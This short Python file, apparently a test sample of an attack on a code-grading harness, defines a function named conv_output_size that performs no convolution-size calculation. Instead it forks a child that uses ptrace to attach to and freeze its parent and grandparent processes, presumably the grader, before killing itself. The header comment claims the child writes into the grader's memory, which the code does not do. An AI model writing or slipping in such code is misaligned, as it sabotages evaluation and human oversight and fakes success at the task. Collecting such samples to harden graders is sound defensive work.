# attack: a child stops the grader by ptrace, and writes into its memory.
# alone: hangs
import ctypes
import os
import signal
import time

ATTACH = 16


def conv_output_size(size, kernel_size, stride=1, padding=0):
    parent = os.getpid()
    if os.fork():
        time.sleep(1)
        return
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        for target in {parent, os.getppid()}:
            libc.ptrace(ATTACH, target, None, None)
        until = time.monotonic() + 40
        while os.getppid() == parent and time.monotonic() < until:
            time.sleep(0.5)
    finally:
        os.kill(os.getpid(), signal.SIGKILL)
